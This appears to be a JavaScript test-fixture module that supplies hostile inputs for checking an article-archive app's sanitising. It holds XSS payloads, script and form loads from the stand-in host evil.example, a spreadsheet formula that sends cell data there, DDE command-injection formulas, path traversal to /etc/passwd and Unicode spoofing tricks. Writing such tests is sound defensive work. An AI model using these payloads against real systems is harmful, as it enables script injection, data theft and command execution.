// What the articles of the hostile archive try. Each calls `alert`, asks `evil.example`, or makes an element.

const TAGS = [
  "<script>alert(1)</script>",
  "</mark><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style></noscript></template></select><script>alert(1)</script>",
  "</main></body></html><script src=//evil.example/x.js></script>",
  "<script src=https://evil.example/x.js></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/p.png>",
  "<img src=x onerror=alert(1) x=",
  "<img src=\"x\" onerror=\"alert(1)\" alt=\"",
  "<img/src/onerror=alert(1)//",
  "<a href=\"javascript:alert(1)\">",
  "<a id=search name=q href=\"",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><use href=\"//evil.example/x.svg#y\"></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></math>",
  "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
  "<iframe src=javascript:alert(1)>",
  "<object data=//evil.example/x></object>",
  "<embed src=//evil.example/x>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>*{display:none}</style>",
  "<style>@import '//evil.example/x.css';</style>",
  "<form action=//evil.example/><button>go</button></form>",
  "<form id=search><input name=q></form>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=//evil.example/x.mp3 autoplay>",
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<dialog open><h1>Signed out</h1></dialog>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<plaintext>",
  "<xmp><p>",
  "<select><option>",
  "<table><tr><td>",
  "<!--",
  "--><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
];

const TEXT = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)} #{alert(1)} <%= alert(1) %>",
  "`${alert(1)}`",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)//http://ok.example",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.example/x",
  "https://ok.example\\@evil.example/",
  "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)\" x=\"",
  "' onclick='alert(1)' style='position:fixed;inset:0",
  "}body{background:url(//evil.example/x)}",
  "x:expression(alert(1));-moz-binding:url(//evil.example/x)",
  "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "one\",\"two\r\n=1+1,three",
  "../../../../etc/passwd",
  "\\\\evil.example\\share",
  "__proto__",
  "constructor",
  "\u202egnp.exe\u202c",
  "\u2066\u2067ferry\u2069 \u2068",
  "fer\u200bry \ufeff\u2060\u00ad",
  "\u0001\u0007\u001b]0;x\u0007\u001b[2J\u0085",
  "\u{e0001}\u{e0073}\u{e0063}\u{e0072}\u{e007f}",
  "Z\u0351\u036b\u0343a\u033c\u0349l\u0321\u0353g\u0322\u0321o".repeat(8),
  "W".repeat(2500),
  "\u05e9\u05dc\u05d5\u05dd <b>alert(1)</b> \u200f\"",
];

export const ATTACKS = [...TAGS, ...TEXT];

/** Names of files. No system allows a slash in them. */
export const NAMES = [
  "<img src=x onerror=alert(1)>.txt",
  "\" onclick=\"alert(1)\" x=\".txt",
  "javascript:alert(1).txt",
  "%2e%2e%2fetc%2fpasswd.txt",
  "a#b?c=d&e;f.txt",
  "=HYPERLINK(1).txt",
  "\u202etxt.exe.txt",
  "line\nbreak.txt",
  "{path}:{line}$(alert).txt",
];

/** A record that has an attack in each of its fields, and around the words that are searched for. */
export function hostileRecord(attack, number) {
  const text = [
    `The ferry will stay in port ${attack} until its engine has been examined, officials said on Monday.`,
    `Passengers saw <img src=x ferry onerror=alert(1) ${attack} and went home before the rain began.`,
    `“No ferry sails today ${attack} from this harbor,” harbor master ${attack} said on Monday number ${number}.`,
    `The grocer of quay ${number} has flour for nine days, and his neighbor has ${number} sacks of coffee.`,
    attack,
    `Subscribe to our newsletter ${attack}`,
    `Read also: Ferry timetable ${attack}`,
  ];
  return {
    id: `${number}${attack}`,
    title: `Ferry ${attack}`,
    author: `Ann ${attack}`,
    site: attack,
    url: attack,
    date: `2024-${String(number % 12 + 1).padStart(2, "0")}-11`,
    text: text.join("\n\n"),
  };
}

/** A page of the web with an attack where its text, its title and its head are. */
export function hostilePage(attack) {
  const quoted = attack.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
  return `<!DOCTYPE html><html><head><title>Ferry ${quoted}</title>
<meta property="og:site_name" content="${quoted}"><meta name="author" content="${quoted}">
<meta property="article:published_time" content="2024-06-11"><link rel="canonical" href="${quoted}"></head><body>
<nav><a href="/">Home ${quoted}</a></nav><article><h1>Ferry ${quoted}</h1>
<p>The ferry came back in the evening ${quoted} with a list of what it had lost, officials said.</p>
<p>“Nobody asked the ferry ${quoted} where it had been,” said the clerk who had waited on the pier since noon.</p>
</article><footer>Subscribe to our newsletter ${quoted}</footer></body></html>`;
}
